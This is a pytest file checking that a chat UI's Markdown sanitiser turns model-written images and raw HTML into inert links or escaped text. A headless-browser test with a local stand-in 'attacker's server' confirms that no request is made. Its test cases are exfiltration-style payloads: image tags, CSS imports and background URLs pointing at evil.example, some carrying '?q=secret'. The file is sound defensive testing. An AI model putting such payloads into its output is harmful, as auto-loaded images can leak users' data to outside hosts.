"""Model output loads nothing remote: images become links, raw HTML is text, code is kept.

Pure tables for the rewrite, the Chat view's output, and one headless Chromium check
against a real Gradio Chatbot: a local listener stands in for the attacker's server and
must see no request (a control page with the raw Markdown shows that it would).
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from components.chat_view import chatbot_messages
from components.inert_markdown import inert_markdown
from manager.net import free_port
from tests.test_chat_view import message

CASES = [
    # (model text, shown as)
    ("![cat](https://evil.example/c.png)", "[🖼️ cat](https://evil.example/c.png)"),
    ("![ref][r]\n\n[r]: https://evil.example/r.png", "[🖼️ ref][r]\n\n[r]: https://evil.example/r.png"),
    ('<img src="https://evil.example/x.png?q=secret" alt="chart">',
     "[🖼️ chart](https://evil.example/x.png?q=secret)"),
    ("<IMG SRC=https://evil.example/y.png>", "[🖼️ image](https://evil.example/y.png)"),
    ("<img/src='http://evil.example/a b(c).png'>", "[🖼️ image](http://evil.example/a%20b%28c%29.png)"),
    ("<img alt=nothing>", "&lt;img alt=nothing>"),
    ('<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png">',
     '&lt;video src="https://evil.example/v.mp4" poster="https://evil.example/p.png">'),
    ("<style>@import url(https://evil.example/s.css)</style>",
     "&lt;style>@import url(https://evil.example/s.css)&lt;/style>"),
    ('<p style="background:url(https://evil.example/b.png)">hi</p>',
     '&lt;p style="background:url(https://evil.example/b.png)">hi&lt;/p>'),
    ("2 < 3 and `a < b` stays code", "2 &lt; 3 and `a < b` stays code"),
    ("```html\n<img src=https://x.example/i.png>\n```\nafter <b>",
     "```html\n<img src=https://x.example/i.png>\n```\nafter &lt;b>"),
    ("~~~\n![k](https://x.example/k.png)\n~~~", "~~~\n![k](https://x.example/k.png)\n~~~"),
    # Only what is surely code is kept: an escaped backtick opens no code span, a span
    # never crosses a line, a fence must start its line.
    ("\\`<img src=https://e.example/1.png>`", "\\`[🖼️ image](https://e.example/1.png)`"),
    ("`start\n<img src=https://e.example/2.png>\nend`",
     "`start\n[🖼️ image](https://e.example/2.png)\nend`"),
    ("- item\n\n   ```\n<img src=https://e.example/3.png>",
     "- item\n\n   ```\n[🖼️ image](https://e.example/3.png)"),
    ("``` has`tick\n<img src=https://e.example/4.png>",
     "``` has`tick\n[🖼️ image](https://e.example/4.png)"),
    ("Plain **markdown** with [a link](https://ok.example) stays.",
     "Plain **markdown** with [a link](https://ok.example) stays."),
]


@pytest.mark.parametrize(("text", "shown"), CASES)
def test_images_become_links_and_html_is_text(text: str, shown: str) -> None:
    assert inert_markdown(text) == shown


def test_the_chat_view_makes_answers_thinking_and_user_text_inert() -> None:
    bad = "![x](https://evil.example/leak.png) <img src=https://evil.example/l2.png>"
    shown = chatbot_messages([
        message(0, "user", bad),
        message(1, "assistant", bad, thinking=bad, thinking_seconds=1.0,
                meta={"error": bad}),
    ])
    contents = [str(m["content"]) for m in shown]
    assert len(contents) == 4
    for content in contents:
        assert "![" not in content and "<img" not in content
        assert "[🖼️ x](https://evil.example/leak.png)" in content


# -- a real Chatbot in headless Chromium ----------------------------------------------------


class Listener:
    """The attacker's server: counts the requests it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.hit = threading.Event()
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the http.server name
                listener.paths.append(self.path)
                listener.hit.set()
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    created = Listener()
    yield created
    created.close()


def chatbot_page(messages: list[dict], port: int):  # noqa: ANN201 - a gr.Blocks
    import gradio as gr

    with gr.Blocks() as demo:
        gr.Chatbot(value=messages, elem_id="bot")
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True,
                quiet=True)
    return demo


@pytest.mark.browser
def test_a_real_chatbot_requests_no_image_the_model_wrote(browser: object,
                                                          listener: Listener) -> None:
    text = (f"Here: ![a]({listener.url}/markdown.png) and "
            f"<img src=\"{listener.url}/html.png\"> THE-END")
    shown = chatbot_messages([message(0, "user", "Show me"), message(1, "assistant", text)])
    raw = [{"role": "user", "content": "Show me"}, {"role": "assistant", "content": text}]
    for messages, expect_requests in ((shown, False), (raw, True)):
        port = free_port()
        demo = chatbot_page(messages, port)
        page = browser.new_page()  # type: ignore[attr-defined]
        try:
            page.goto(f"http://127.0.0.1:{port}/")
            page.wait_for_selector("#bot :text('THE-END')", timeout=30_000)
            page.wait_for_load_state("networkidle")
            sources = page.eval_on_selector_all(
                "#bot img, #bot source, #bot video, #bot audio",
                "nodes => nodes.map(n => n.currentSrc || n.src || '')")
            if expect_requests:
                # The control: the raw Markdown does make the browser ask.
                assert listener.hit.wait(30)
                listener.paths.clear()
                listener.hit.clear()
            else:
                assert not any(listener.url in src for src in sources)
                assert page.locator("#bot a[href$='/markdown.png']").count() == 1
                assert page.locator("#bot a[href$='/html.png']").count() == 1
                assert listener.paths == []
        finally:
            page.close()
            demo.close()
